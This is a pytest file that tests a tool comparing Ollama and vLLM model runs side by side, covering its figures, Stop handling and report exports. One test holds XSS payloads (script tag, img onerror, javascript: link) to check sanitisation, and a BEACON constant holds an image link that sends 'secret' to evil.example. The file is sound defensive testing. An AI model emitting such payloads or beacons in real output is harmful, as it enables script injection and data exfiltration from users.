"""studio/runs/compare.py: panes run at once against real test servers; figures, Stop, exports."""

from __future__ import annotations

import html
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import cast

import pytest

from backends.base import Backend
from backends.errors import BackendError
from backends.ollama_backend import OllamaBackend
from backends.sampling import Sampling
from backends.status import Status
from backends.stream import Answer, GenerationStats
from backends.vllm_backend import VLLMBackend
from studio.pv.checks import CHECK_DEFINITIONS
from studio.pv.grounding import check_run
from studio.pv.library import load_locations
from studio.pv.prompt import build_user_prompt
from studio.records.render import markdown_to_safe_html
from studio.runs import connection
from studio.runs.compare import (
    FIGURE_DEFINITIONS,
    FIGURES,
    Comparison,
    Spread,
    definitions,
    is_measured,
    pane_labels,
    spread,
)
from studio.runs.request import RunParams
from studio.runs.serving import DEFINITIONS
from studio.settings.config import load_config
from tests.conftest import wait_until
from tests.servers.ollama import FakeOllama, Script, chat_messages, tag_digest, tokenize
from tests.servers.ollama import prompt_tokens as prompt_length
from tests.servers.vllm import FakeVLLM, completion

SYSTEM = "You are a PV sizing analyst."
PROMPT = build_user_prompt(load_locations()[0])  # the real San Diego prompt
OLLAMA_PROMPT_TOKENS = prompt_length(chat_messages(PROMPT, SYSTEM))  # as the fake counts
OLLAMA_ANSWER = ("## Recommendation\n\nAverage daily consumption: 53.76 kWh; install "
                 "~128 panels; nighttime load 70.23%.\n")
VLLM_ANSWER = "## RECOMMENDATION\n\nInstall **31 panels** within the $15,000 budget."



def build(pane: RunParams) -> Backend:
    """What the page's ``studio.runs.connection.build`` does, for the two server backends."""
    if pane.backend == "ollama":
        return OllamaBackend(pane.host, pane.model, read_timeout=20)
    if pane.backend == "vllm":
        return VLLMBackend(pane.host, pane.model, read_timeout=20, use_openai_sdk=False)
    raise BackendError(f"No GGUF model named {pane.model!r}.", hint="Pick a served model.",
                       backend=pane.backend)


def ollama_pane(url: str, model: str = "llama3.1:8b") -> RunParams:
    return RunParams("ollama", url, model, sampling=Sampling(max_tokens=512, temperature=0.2))


def vllm_pane(url: str, sse: bool = False) -> RunParams:
    return RunParams("vllm", url, "smollm2", sampling=Sampling(max_tokens=512, temperature=0.2),
                     sse=sse)


def compare(panes: list[RunParams], repeats: int = 1,
            builder: Callable[[RunParams], object] = build) -> Comparison:
    """A comparison of ``panes`` with backends from ``builder`` (a real one, or a stand-in
    with only what the runner calls)."""
    return Comparison(panes, SYSTEM, PROMPT, repeats=repeats, preset="San Diego, CA",
                      build=lambda pane: cast(Backend, builder(pane))).start()


def measured(value: float | None) -> float:
    """A figure every run here has."""
    assert value is not None
    return value


@pytest.fixture
def ollama_server() -> Iterator[FakeOllama]:
    with FakeOllama(script=Script(tokens=tokenize(OLLAMA_ANSWER))) as server:
        yield server


@pytest.fixture
def vllm_server() -> Iterator[FakeVLLM]:
    with FakeVLLM(200, completion(VLLM_ANSWER, completion_tokens=17)) as server:
        yield server


# -- spread ---------------------------------------------------------------------------------
def test_spread_on_known_inputs() -> None:
    assert spread([3.0, 1.0, 2.0]) == Spread(2.0, 1.0, 3.0, 3)
    assert spread([4, None, 1, 2, 10]) == Spread(3.0, 1.0, 10.0, 4)  # even count: mean of two
    assert spread([0.5]) == Spread(0.5, 0.5, 0.5, 1)
    assert spread([]) is None
    assert spread([None, None]) is None
    assert spread([0, 0]) == Spread(0.0, 0.0, 0.0, 2)  # zero is a value, not a missing one


def test_spread_as_text() -> None:
    assert str(Spread(2.0, 1.0, 3.0, 3)) == "2 (1–3)"
    assert str(Spread(0.5, 0.25, 1.5, 3)) == "0.50 (0.25–1.50)"
    assert str(Spread(1234.6, 1000.0, 1500.0, 3)) == "1,235 (1,000–1,500)"
    assert str(Spread(0.8, 0.8, 0.8, 3)) == "0.80"  # no range when all runs agree
    assert str(Spread(0.8, 0.1, 0.9, 1)) == "0.80"


class Scripted:
    """A one-piece backend whose answers carry scripted statistics, one per call."""

    name = "scripted"
    model = "scripted-1"

    def __init__(self, results: list[GenerationStats | BackendError]) -> None:
        self.results = results
        self.calls = 0

    def generate(self, prompt: str, system: str = "", max_tokens: int = 2048,
                 temperature: float = 0.2) -> str:
        result = self.results[self.calls]
        self.calls += 1
        if isinstance(result, BackendError):
            raise result
        return Answer(f"Answer {self.calls}: 53.76 kWh.", result)

    def list_models(self) -> list[str]:
        return [self.model]


def test_figures_are_median_min_max_over_rounds_without_failed_runs() -> None:
    backend = Scripted([
        GenerationStats(total_time_s=3.0, time_to_first_token_s=0.5, output_tokens=10,
                        prompt_tokens=100, done_reason="stop", fragments=5),
        GenerationStats(total_time_s=1.0, time_to_first_token_s=0.25, output_tokens=30,
                        prompt_tokens=100, done_reason="stop", fragments=5),
        BackendError("the server fell over"),
        GenerationStats(total_time_s=2.0, time_to_first_token_s=0.75, output_tokens=20,
                        prompt_tokens=100, done_reason="stop", fragments=5),
    ])
    pane = RunParams("embedded", "", "scripted-1",
                     sampling=Sampling(max_tokens=64, temperature=0.0))
    comparison = compare([pane], repeats=4, builder=lambda _: backend)
    assert comparison.wait(5)
    assert len(comparison.rounds) == 4 and backend.calls == 4
    assert [run.status for run in comparison.pane_runs(0)] == [
        Status.FINISHED, Status.FINISHED, Status.ERROR, Status.FINISHED]
    figures = comparison.figures(0)
    assert figures["total"] == Spread(2.0, 1.0, 3.0, 3)
    assert figures["ttft"] == Spread(0.5, 0.25, 0.75, 3)
    assert figures["output_tokens"] == Spread(20.0, 10.0, 30.0, 3)
    assert figures["prompt_tokens"] == Spread(100.0, 100.0, 100.0, 3)
    # streamed (5 fragments): client tokens/s = tokens / (total - ttft): 10/2.5, 30/0.75, 20/1.25
    assert figures["client_tps"] == Spread(16.0, 4.0, 40.0, 3)
    assert figures["server_tps"] is None and figures["load"] is None
    (row,) = comparison.table()
    assert row["Runs"] == "3 measured · 1 error"  # what the medians cover, and what not
    assert row["Total time (s)"] == "2 (1–3)"
    assert row["Output tokens"] == "20 (10–30)"
    assert row["Tokens/s (server)"] == "–"
    assert row["Stop reason"] == "Error, Finished"


# -- running the panes at once --------------------------------------------------------------
def test_panes_run_at_the_same_time(ollama_server: FakeOllama) -> None:
    tokens = tokenize(OLLAMA_ANSWER)
    ollama_server.script.delay = 0.5 / (len(tokens) - 1)  # a 0.5 s stream
    with FakeVLLM(200, completion(VLLM_ANSWER), delay=0.8) as vllm:  # 0.8 s, one piece
        started = time.monotonic()
        comparison = compare([ollama_pane(ollama_server.url), vllm_pane(vllm.url)])
        assert comparison.wait(10)
        measured = time.monotonic() - started
    stream, whole = comparison.current_round
    assert stream.status == whole.status == Status.FINISHED
    assert stream.text == OLLAMA_ANSWER and whole.text == VLLM_ANSWER.strip()
    assert stream.elapsed >= 0.5 and whole.elapsed >= 0.8
    assert abs(stream.start_time - whole.start_time) < 0.1  # started together
    wall = comparison.wall_time
    assert wall is not None and comparison.round_walls == [wall]
    slowest = max(stream.elapsed, whole.elapsed)
    # The slowest pane's time, not the sum (1.3 s): within 20 % of the slowest pane.
    assert slowest <= wall < 1.2 * slowest
    assert wall < 0.5 + 0.8 - 0.2
    assert measured < 1.2 * slowest + 0.2  # + starting and joining the threads


def test_repeats_give_rounds_and_spreads_over_them(ollama_server: FakeOllama,
                                                   vllm_server: FakeVLLM) -> None:
    comparison = compare([ollama_pane(ollama_server.url), vllm_pane(vllm_server.url)],
                         repeats=3)
    assert comparison.wait(10)
    assert len(comparison.rounds) == 3 and len(comparison.round_walls) == 3
    assert len(ollama_server.chat_requests) == 3 and vllm_server.chat_calls == 3
    runs = [run for round_ in comparison.rounds for run in round_]
    assert len({id(run) for run in runs}) == 6  # a fresh run per pane per round
    assert all(run.status == Status.FINISHED for run in runs)
    for index, output_tokens, prompt_tokens in ((0, len(tokenize(OLLAMA_ANSWER)),
                                                 OLLAMA_PROMPT_TOKENS),
                                                (1, 17, 47)):
        figures = comparison.figures(index)
        assert figures["total"] is not None and figures["total"].count == 3
        assert figures["ttft"] is not None and figures["ttft"].count == 3
        assert figures["output_tokens"] == Spread(output_tokens, output_tokens,
                                                  output_tokens, 3)
        assert figures["prompt_tokens"] == Spread(prompt_tokens, prompt_tokens,
                                                  prompt_tokens, 3)
        totals = [measured(run.stats.total_time_s) for run in comparison.pane_runs(index)]
        assert figures["total"] == Spread(sorted(totals)[1], min(totals), max(totals), 3)
    ollama_load = comparison.figures(0)["load"]
    loads_s = sorted(ns / 1e9 for ns in ollama_server.load_durations_ns)
    assert len(loads_s) == 3 and len(ollama_server.loads) == 1  # loaded once, then reused
    assert ollama_load is not None and ollama_load.median == pytest.approx(loads_s[1])
    assert all(row["Runs"] == "3 measured" for row in comparison.table())
    assert comparison.repeats == 3


def test_repeats_are_capped_at_ten(ollama_server: FakeOllama) -> None:
    comparison = Comparison([ollama_pane(ollama_server.url)], SYSTEM, PROMPT, repeats=50,
                            build=build)
    assert comparison.repeats == 10
    assert Comparison([ollama_pane(ollama_server.url)], SYSTEM, PROMPT, repeats=0,
                      build=build).repeats == 1
    with pytest.raises(ValueError):
        Comparison([ollama_pane(ollama_server.url)] * 5, SYSTEM, PROMPT, build=build)


def test_table_rows_modes_and_one_piece_ttft(ollama_server: FakeOllama,
                                             vllm_server: FakeVLLM) -> None:
    vllm_server.tokens = ("Install", " 31", " panels", ".")
    panes = [ollama_pane(ollama_server.url), vllm_pane(vllm_server.url),
             vllm_pane(vllm_server.url, sse=True)]
    comparison = compare(panes)
    assert comparison.wait(10)
    assert [run.status for run in comparison.current_round] == [Status.FINISHED] * 3
    rows = comparison.table()
    assert [row["Pane"] for row in rows] == ["1. Ollama · llama3.1:8b", "2. vLLM · smollm2",
                                             "3. vLLM · smollm2"]
    assert [row["Mode"] for row in rows] == ["stream", "one piece", "stream (SSE)"]
    ttft = [row["Time to first token (s)"] for row in rows]
    assert ttft[1].endswith(" = total")
    assert not ttft[0].endswith("= total") and not ttft[2].endswith("= total")
    assert all(re.fullmatch(r"\d+\.\d\d( = total)?", value) for value in ttft), ttft
    assert [row["Output tokens"] for row in rows] == [str(len(tokenize(OLLAMA_ANSWER))),
                                                      "17", "4"]
    assert [row["Prompt tokens"] for row in rows] == [f"{OLLAMA_PROMPT_TOKENS:,}", "47", "12"]
    assert [row["Stop reason"] for row in rows] == ["Finished"] * 3
    assert [row["Runs"] for row in rows] == ["1 measured"] * 3
    # Grounding against the San Diego data: 53.76 kWh and 70.23% yes, 128 panels no.
    assert rows[0]["Grounding"] == "2 grounded · 1 not found"
    assert rows[1]["Grounding"] == "2 grounded · 0 not found"  # 31 panels, $15,000
    assert rows[2]["Grounding"] == "1 grounded · 0 not found"  # "31 panels"
    assert comparison.current_round[2].text == "Install 31 panels."
    timelines = comparison.timelines()
    assert list(timelines) == [row["Pane"] for row in rows]
    one_piece = timelines["2. vLLM · smollm2"]
    assert len(one_piece) == 1 and one_piece[0][1] == len(VLLM_ANSWER.strip())
    streamed = timelines["1. Ollama · llama3.1:8b"]
    assert len(streamed) == len(tokenize(OLLAMA_ANSWER))
    assert [n for _, n in streamed] == sorted(n for _, n in streamed)
    assert streamed[-1][1] == len(OLLAMA_ANSWER)


# -- Stop -----------------------------------------------------------------------------------
def test_stop_cancels_every_running_pane_and_no_round_follows() -> None:
    slow = Script(tokens=tokenize(OLLAMA_ANSWER * 4), delay=0.2)
    with FakeOllama(script=slow) as ollama, \
            FakeVLLM(200, completion(VLLM_ANSWER), delay=5) as vllm:
        comparison = compare([ollama_pane(ollama.url), vllm_pane(vllm.url)], repeats=3)
        assert wait_until(lambda: len(comparison.rounds) == 1)
        stream, whole = comparison.current_round
        assert wait_until(lambda: stream.text != "" and vllm.chat_calls == 1)
        time.sleep(0.3)  # both requests are now in flight on the servers
        assert vllm.hangups == 0 and not ollama.client_closed.is_set()
        clicked = time.monotonic()
        comparison.stop()
        assert comparison.wait(2), "the comparison did not end on Stop"
        assert time.monotonic() - clicked < 1
        assert ollama.client_closed.wait(5), "Ollama never saw the connection close"
        # vLLM was still "generating" (its 5 s delay): it sees the client hang up.
        assert wait_until(lambda: vllm.hangups >= 1, 3), "vLLM never saw the connection close"
        time.sleep(0.5)
        assert len(comparison.rounds) == 1, "a round started after Stop"
        assert len(ollama.chat_requests) == 1 and vllm.chat_calls == 1
    assert comparison.stopped and comparison.done
    assert stream.status == whole.status == Status.STOPPED
    assert stream.text and len(stream.text) < len(OLLAMA_ANSWER * 4)  # partial text kept
    assert whole.text == ""
    assert comparison.wall_time is not None and comparison.wall_time < 2
    assert [row["Stop reason"] for row in comparison.table()] == ["Stopped", "Stopped"]
    assert json.loads(comparison.to_json())["stopped"] is True


def test_stop_keeps_a_finished_panes_answer(vllm_server: FakeVLLM) -> None:
    with FakeOllama(script=Script(tokens=tokenize(OLLAMA_ANSWER * 4), delay=0.2)) as ollama:
        comparison = compare([ollama_pane(ollama.url), vllm_pane(vllm_server.url)])
        assert wait_until(lambda: len(comparison.rounds) == 1)
        stream, whole = comparison.current_round
        assert whole.wait(5) and wait_until(lambda: stream.text != "")
        assert not stream.done
        comparison.stop()
        assert comparison.wait(2)
        assert ollama.client_closed.wait(5)
    assert whole.status == Status.FINISHED and whole.text == VLLM_ANSWER.strip()
    assert stream.status == Status.STOPPED and stream.text


def stop_during_round_two_setup(panes: list[RunParams],
                                pause_second_build: float = 0.0) -> Comparison:
    """Press Stop while round 2's first backend is being built (round 1 is current then);
    optionally take a while building round 2's second backend."""
    building, release = threading.Event(), threading.Event()
    calls: list[RunParams] = []

    def slow_build(pane: RunParams) -> Backend:
        calls.append(pane)
        if len(calls) == 3:  # round 2, first pane: e.g. a model file being opened
            building.set()
            release.wait(5)
        if len(calls) == 4:
            time.sleep(pause_second_build)
        return build(pane)

    comparison = compare(panes, repeats=3, builder=slow_build)
    assert building.wait(5)
    comparison.stop()
    release.set()
    assert comparison.wait(5)
    assert len(calls) == 4  # no round 3
    return comparison


def test_stop_while_a_round_is_being_set_up_stops_that_round(
        ollama_server: FakeOllama) -> None:
    with FakeVLLM(200, completion(VLLM_ANSWER), delay=3) as vllm:
        ollama_server.script.delay = 0.2  # round 2 would take seconds: it must be stopped
        clicked = time.monotonic()
        comparison = stop_during_round_two_setup([ollama_pane(ollama_server.url),
                                                  vllm_pane(vllm.url)])
        first, second = comparison.rounds
        assert [run.status for run in first] == [Status.FINISHED, Status.FINISHED]
        assert [run.status for run in second] == [Status.STOPPED, Status.STOPPED]
        assert time.monotonic() - clicked < 5.5  # round 1 (3 s) + a prompt stop


def test_no_request_reaches_a_server_after_stop(ollama_server: FakeOllama,
                                                vllm_server: FakeVLLM) -> None:
    comparison = stop_during_round_two_setup(
        [ollama_pane(ollama_server.url), vllm_pane(vllm_server.url)], pause_second_build=0.5)
    assert len(ollama_server.chat_requests) == 1, "a chat was sent after Stop"
    assert [run.status for run in comparison.rounds[-1]] == [Status.STOPPED, Status.STOPPED]


# -- errors stay in their pane --------------------------------------------------------------
def test_a_pane_whose_backend_cannot_be_built_shows_the_error(ollama_server: FakeOllama) -> None:
    ollama_server.script.delay = 0.02
    missing = RunParams("embedded", "", "/models/missing.gguf",
                        sampling=Sampling(max_tokens=64, temperature=0.2))
    comparison = compare([ollama_pane(ollama_server.url), missing])
    assert comparison.wait(10)
    good, broken = comparison.current_round
    assert good.status == Status.FINISHED and good.text == OLLAMA_ANSWER
    assert broken.status == Status.ERROR and broken.text == ""
    assert broken.error is not None
    assert broken.error.message == "No GGUF model named '/models/missing.gguf'."
    assert broken.error.hint == "Pick a served model."
    rows = comparison.table()
    assert rows[1]["Stop reason"] == "Error" and rows[1]["Total time (s)"] == "–"
    assert rows[1]["Grounding"] == "–"
    assert rows[0]["Stop reason"] == "Finished"
    data = json.loads(comparison.to_json())
    assert data["panes"][1]["runs"][0]["status"] == "error"
    assert "No GGUF model named" in data["panes"][1]["runs"][0]["error"]


def test_the_apps_own_build_with_a_missing_gguf_file(ollama_server: FakeOllama,
                                                     tmp_path: Path) -> None:
    config = tmp_path / "config.yaml"
    config.write_text(f"llm:\n  backend: ollama\n  host: {ollama_server.url}\n"
                      "  model: llama3.1:8b\n")
    settings = load_config(config)
    missing = str(tmp_path / "missing.gguf")
    comparison = compare(
        [ollama_pane(ollama_server.url),
         RunParams("embedded", "", missing, sampling=Sampling(max_tokens=64, temperature=0.2))],
        builder=lambda pane: connection.build(settings, pane.backend, pane.host, pane.model))
    assert comparison.wait(10)
    good, broken = comparison.current_round
    assert good.status == Status.FINISHED and good.text == OLLAMA_ANSWER
    assert broken.status == Status.ERROR and broken.error is not None
    assert broken.error.message == f"No GGUF file at {missing}."
    assert [row["Stop reason"] for row in comparison.table()] == ["Finished", "Error"]


def test_a_server_error_in_one_pane_does_not_disturb_the_other(ollama_server: FakeOllama,
                                                              vllm_server: FakeVLLM) -> None:
    ollama_server.script.status = 500
    vllm_server.delay = 0.3
    comparison = compare([ollama_pane(ollama_server.url), vllm_pane(vllm_server.url)],
                         repeats=2)
    assert comparison.wait(10)
    assert len(comparison.rounds) == 2  # an error is no reason to stop repeating
    for failed, fine in comparison.rounds:
        assert failed.status == Status.ERROR and failed.error is not None
        assert "model runner has unexpectedly stopped" in str(failed.error)
        assert fine.status == Status.FINISHED and fine.text == VLLM_ANSWER.strip()
    assert comparison.figures(0)["total"] is None
    total = comparison.figures(1)["total"]
    assert total is not None and total.count == 2


# -- export ---------------------------------------------------------------------------------
def test_to_json_has_panes_runs_figures_and_grounding(ollama_server: FakeOllama,
                                                      vllm_server: FakeVLLM) -> None:
    comparison = compare([ollama_pane(ollama_server.url), vllm_pane(vllm_server.url)],
                         repeats=2)
    assert comparison.wait(10)
    data = json.loads(comparison.to_json())
    assert data["user_prompt"] == PROMPT and data["system_prompt"] == SYSTEM
    assert data["preset"] == "San Diego, CA" and data["repeats"] == 2
    assert data["stopped"] is False and len(data["round_wall_times_s"]) == 2
    first, second = data["panes"]
    assert first["config"]["backend"] == "ollama" and first["mode"] == "stream"
    assert second["config"] == {"backend": "vllm", "host": vllm_server.url, "model": "smollm2",
                                "max_tokens": 512, "temperature": 0.2, "sse": False,
                                "repeat_penalty": None, "think": "", "answer_format": "markdown"}
    assert second["mode"] == "one piece"
    assert [run["answer"] for run in first["runs"]] == [OLLAMA_ANSWER] * 2
    assert [run["answer"] for run in second["runs"]] == [VLLM_ANSWER.strip()] * 2
    tokens = float(len(tokenize(OLLAMA_ANSWER)))
    assert first["figures"]["output_tokens"] == {"median": tokens, "low": tokens, "high": tokens,
                                                 "count": 2}
    assert first["figures"]["total"]["count"] == 2
    assert first["grounding"] == {"score": pytest.approx(2 / 3),
                                  "grounded": ["53.76 kWh", "70.23%"],
                                  "not_found": ["128 panels"], "not_graded": None}
    assert second["grounding"]["not_found"] == []


def test_to_html_side_by_side_sanitized_with_csp() -> None:
    hostile = ("## Report <img src=x onerror=alert(1)>\n\n<script>alert('pwned')</script>\n\n"
               "[details](javascript:alert(2)) and 128 panels.\n")
    with FakeOllama(models=["llama3.1:8b", "<b>evil</b>"],
                    script=Script(tokens=tokenize(hostile), go_escape=False)) as ollama, \
            FakeVLLM(200, completion(VLLM_ANSWER)) as vllm:
        comparison = compare([ollama_pane(ollama.url, model="<b>evil</b>"),
                              vllm_pane(vllm.url)])
        assert comparison.wait(10)
    assert [run.status for run in comparison.current_round] == [Status.FINISHED, Status.FINISHED]
    report = comparison.to_html()
    assert report.startswith("<!DOCTYPE html>")
    assert re.search(r"<meta http-equiv=\"Content-Security-Policy\"\s+content=\"default-src "
                     r"'none'; style-src 'unsafe-inline'\">", report)
    lowered = report.lower()
    assert "<script" not in lowered and "<img" not in lowered
    assert re.search(r"<[^>]*\bon[a-z]+=", lowered) is None  # no event handler attribute
    assert re.search(r"href=[\"']?\s*javascript", lowered) is None
    assert "<b>evil</b>" not in report and "&lt;b&gt;evil&lt;/b&gt;" in report
    # Both answers, each in its own column, in pane order.
    panes = re.search(r"<div class=panes>(.*?)</div>\s*<h2>Measurements", report, re.DOTALL)
    assert panes is not None
    sections = re.findall(r"<section>(.*?)</section>", panes.group(1), re.DOTALL)
    assert len(sections) == 2
    assert "Ollama · &lt;b&gt;evil&lt;/b&gt;" in sections[0] and "128 panels" in sections[0]
    assert "vLLM · smollm2" in sections[1] and "<strong>31 panels</strong>" in sections[1]
    assert "$15,000 budget" in sections[1]
    assert "stream · Finished" in sections[0] and "one piece · Finished" in sections[1]
    assert "<th>Time to first token (s)</th>" in report
    assert report.count("<tr><td>") >= 4  # two table rows, two timeline rows


def test_a_stopped_round_is_left_out_of_the_figures(ollama_server: FakeOllama) -> None:
    """Repeat 2, Stop during round 2: the stopped run's time (the Stop's, not the model's)
    stays out of the medians, and the table says what they cover."""
    tokens = tokenize(OLLAMA_ANSWER)
    ollama_server.script.delay = 0.6 / (len(tokens) - 1)
    comparison = compare([ollama_pane(ollama_server.url)], repeats=2)
    deadline = time.monotonic() + 10
    while len(comparison.rounds) < 2 or not comparison.current_round[0].text:
        assert time.monotonic() < deadline
        time.sleep(0.02)
    comparison.stop()
    assert comparison.wait(10)
    first, second = comparison.pane_runs(0)
    assert (first.status, second.status) == (Status.FINISHED, Status.STOPPED)
    total = comparison.figures(0)["total"]
    assert total is not None and total.count == 1
    assert total.median == pytest.approx(first.stats.total_time_s)
    (row,) = comparison.table()
    assert row["Runs"] == "1 measured · 1 stopped"


def test_panes_of_one_model_on_two_hosts_are_told_apart() -> None:
    panes = [RunParams("ollama", "http://gpu-a:11434", "llama3.1:8b"),
             RunParams("ollama", "http://analyst:pw@gpu-b:11434", "llama3.1:8b"),
             RunParams("vllm", "http://gpu-a:8000", "smollm2")]
    assert pane_labels(panes) == ["1. Ollama · llama3.1:8b · http://gpu-a:11434",
                                  "2. Ollama · llama3.1:8b · http://gpu-b:11434",
                                  "3. vLLM · smollm2"]


# -- what counts as measured; per-pane Stop; the report's wall time -------------------------
class Answering:
    """A backend that answers from a script of (answer, thinking, stats), one per call."""

    name = "answering"
    model = "answering-1"

    def __init__(self, results: list[tuple[str, str, GenerationStats]]) -> None:
        self.results = results
        self.calls = 0

    def generate(self, prompt: str, system: str = "", max_tokens: int = 2048,
                 temperature: float = 0.2) -> str:
        text, thinking, stats = self.results[self.calls]
        self.calls += 1
        return Answer(text, stats, thinking)

    def list_models(self) -> list[str]:
        return [self.model]


def answered(total: float, done_reason: str = "stop") -> GenerationStats:
    return GenerationStats(total_time_s=total, time_to_first_token_s=total / 4,
                           output_tokens=150, done_reason=done_reason, fragments=5)


def test_runs_cut_at_max_tokens_or_empty_are_counted_apart_from_the_measured() -> None:
    """A thinking model that spent all its tokens thinking answered nothing: it is not
    'measured', and its time stays out of the medians; so do a cut answer and an empty one."""
    backend = Answering([
        ("Install 12 panels.", "", answered(2.0)),
        ("", "Let me think about the panels... " * 20, answered(9.0, "length")),
        ("Install 12 pan", "", answered(7.0, "length")),
        ("   ", "", answered(8.0)),
        ("Install 14 panels.", "", answered(4.0)),
    ])
    pane = RunParams("embedded", "", "answering-1",
                     sampling=Sampling(max_tokens=150, temperature=0.0))
    comparison = compare([pane], repeats=5, builder=lambda _: backend)
    assert comparison.wait(5)
    assert [run.status for run in comparison.pane_runs(0)] == [
        Status.FINISHED, Status.LENGTH, Status.LENGTH, Status.FINISHED, Status.FINISHED]
    assert [is_measured(run) for run in comparison.pane_runs(0)] == [
        True, False, False, False, True]
    total = comparison.figures(0)["total"]
    assert total == Spread(3.0, 2.0, 4.0, 2)  # the two finished answers only
    (row,) = comparison.table()
    assert row["Runs"] == ("2 measured · 1 empty answer · 1 hit max tokens · "
                           "1 hit max tokens before any answer")
    assert row["Total time (s)"] == "3 (2–4)"


def test_a_pane_that_only_thought_has_no_figures() -> None:
    backend = Answering([("", "thinking " * 40, answered(9.0, "length"))] * 2)
    pane = RunParams("embedded", "", "answering-1",
                     sampling=Sampling(max_tokens=150, temperature=0.0))
    comparison = compare([pane], repeats=2, builder=lambda _: backend)
    assert comparison.wait(5)
    (row,) = comparison.table()
    assert row["Runs"] == "0 measured · 2 hit max tokens before any answer"
    assert all(value is None for value in comparison.figures(0).values())


def test_one_pane_is_stopped_on_its_own_and_sits_out_the_next_rounds(
        vllm_server: FakeVLLM) -> None:
    slow = Script(tokens=tokenize(OLLAMA_ANSWER * 4), delay=0.2)
    with FakeOllama(script=slow) as ollama:
        comparison = compare([ollama_pane(ollama.url), vllm_pane(vllm_server.url)],
                             repeats=3)
        assert wait_until(lambda: len(comparison.rounds) == 1)
        stream, _ = comparison.current_round
        assert wait_until(lambda: stream.text != "")
        comparison.stop_pane(0)
        assert ollama.client_closed.wait(5), "Ollama never saw the connection close"
        assert comparison.wait(10)
        assert len(ollama.chat_requests) == 1  # rounds 2 and 3 sent nothing to it
    assert not comparison.stopped and comparison.pane_stopped(0)
    assert not comparison.pane_stopped(1)
    assert len(comparison.rounds) == 3
    assert [run.status for run in comparison.pane_runs(0)] == [Status.STOPPED] * 3
    assert [run.status for run in comparison.pane_runs(1)] == [Status.FINISHED] * 3
    assert vllm_server.chat_calls == 3
    assert stream.text and len(stream.text) < len(OLLAMA_ANSWER * 4)  # partial text kept
    assert [row["Runs"] for row in comparison.table()] == ["0 measured · 3 stopped",
                                                           "3 measured"]
    # The pane shows the run it stopped, partial answer and all, not the empty run of the
    # last round it sat out; its grounding line is that answer's.
    shown, other = comparison.shown_round
    assert shown is stream and shown.status == Status.STOPPED
    assert other is comparison.current_round[1]
    report = comparison.grounding(0)
    assert report is not None
    assert report == check_run(stream.text, PROMPT, stream.stats.to_dict())
    assert comparison.timelines()[comparison.labels[0]] == stream.timeline
    assert markdown_to_safe_html(stream.text) in comparison.to_html()


def test_a_run_without_an_answer_has_no_grounding_line_from_an_earlier_round() -> None:
    backend = Answering([("Install 12 panels for 53.76 kWh a day.", "", answered(2.0)),
                         ("", "", answered(1.0))])
    pane = RunParams("embedded", "", "answering-1",
                     sampling=Sampling(max_tokens=150, temperature=0.0))
    comparison = compare([pane], repeats=2, builder=lambda _: backend)
    assert comparison.wait(5)
    assert comparison.shown_round == comparison.current_round
    assert comparison.grounding(0) is None  # the shown run (round 2) answered nothing


def test_stopping_every_pane_one_by_one_stops_the_comparison(vllm_server: FakeVLLM) -> None:
    vllm_server.delay = 2
    comparison = compare([vllm_pane(vllm_server.url), vllm_pane(vllm_server.url)], repeats=3)
    assert wait_until(lambda: vllm_server.chat_calls == 2)
    comparison.stop_pane(1)
    comparison.stop_pane(0)
    assert comparison.wait(3)
    assert comparison.stopped and len(comparison.rounds) == 1


def test_the_reports_wall_time_covers_every_round(ollama_server: FakeOllama) -> None:
    ollama_server.script.delay = 0.02
    comparison = compare([ollama_pane(ollama_server.url)], repeats=2)
    assert comparison.wait(10)
    first, second = comparison.round_walls
    total = comparison.total_wall_time
    assert total is not None and total >= first + second
    header = re.search(r"<header>.*?</header>", comparison.to_html(), re.DOTALL)
    assert header is not None
    assert (f"wall time {total:.2f} s over 2 rounds ({first:.2f} s, {second:.2f} s)"
            in header.group(0))
    assert json.loads(comparison.to_json())["wall_time_s"] == pytest.approx(total)


def test_the_report_shows_a_failed_panes_error_and_its_fix(ollama_server: FakeOllama) -> None:
    missing = RunParams("embedded", "", "/models/missing.gguf",
                        sampling=Sampling(max_tokens=64, temperature=0.2))
    comparison = compare([ollama_pane(ollama_server.url), missing])
    assert comparison.wait(10)
    sections = re.findall(r"<section>(.*?)</section>", comparison.to_html(), re.DOTALL)
    assert "No GGUF model named &#x27;/models/missing.gguf&#x27;." in sections[1]
    assert "Pick a served model." in sections[1]
    assert "Error:" not in sections[0]


# -- the static report: what it must hold to be read where no server is reachable -------------
def test_the_report_has_the_prompts_parameters_digests_definitions_and_checks(
        ollama_server: FakeOllama) -> None:
    location = load_locations()[0]
    with FakeVLLM(200, completion(VLLM_ANSWER)) as vllm:
        panes = [RunParams("ollama", ollama_server.url.replace("//", "//ana:s3cret@"),
                           "llama3.1:8b",
                           sampling=Sampling(max_tokens=777, temperature=0.35,
                                             repeat_penalty=1.2, think="off")),
                 vllm_pane(vllm.url)]
        comparison = Comparison(panes, SYSTEM, PROMPT, repeats=2, preset="San Diego, CA",
                                location=location, build=build).start()
        assert comparison.wait(20)
    report = comparison.to_html()
    assert "s3cret" not in report and "ana:" not in report
    prompts = _section(report, "Prompts")
    assert html.escape(SYSTEM) in prompts and html.escape(PROMPT) in prompts
    parameters = _section(report, "Parameters")
    for shown in ("Ollama", "vLLM", "llama3.1:8b", "smollm2", html.escape(ollama_server.url),
                  "777", "0.35", "1.2", "off", "server default", "Markdown report", "stream",
                  "one piece", "Repeats", "2", f"sha256:{tag_digest('llama3.1:8b')}",
                  "not reported by the server"):
        assert f"<td>{shown}</td>" in parameters, shown
    data = json.loads(comparison.to_json())
    assert [pane["model_digest"] for pane in data["panes"]] == [
        f"sha256:{tag_digest('llama3.1:8b')}", "not reported by the server"]
    assert data["definitions"] == definitions()
    definitions_part = _section(report, "Definitions")
    for name, text in {**{label: FIGURE_DEFINITIONS[key] for key, label, _ in FIGURES},
                       **CHECK_DEFINITIONS}.items():
        assert f"<dt>{html.escape(name)}</dt><dd>{html.escape(text)}</dd>" in definitions_part
    assert DEFINITIONS["E2EL"] in FIGURE_DEFINITIONS["total"]  # in vllm bench serve's words
    sections = re.findall(r"<section>(.*?)</section>", report, re.DOTALL)
    assert len(sections) == 2
    for section in sections:  # each pane's figure check, saying what it checks
        assert "<h4>Figure check</h4>" in section and "Figures right: " in section
        assert "against the location&#x27;s data" in section and "Grounding: " in section
    assert "<table class=checks>" in sections[0]


def test_every_figure_has_one_definition() -> None:
    assert list(FIGURE_DEFINITIONS) == [key for key, _, _ in FIGURES]
    assert set(definitions()) >= {label for _, label, _ in FIGURES} | set(CHECK_DEFINITIONS)


BEACON = "![pixel](http://evil.example/beacon.png?q=secret)"
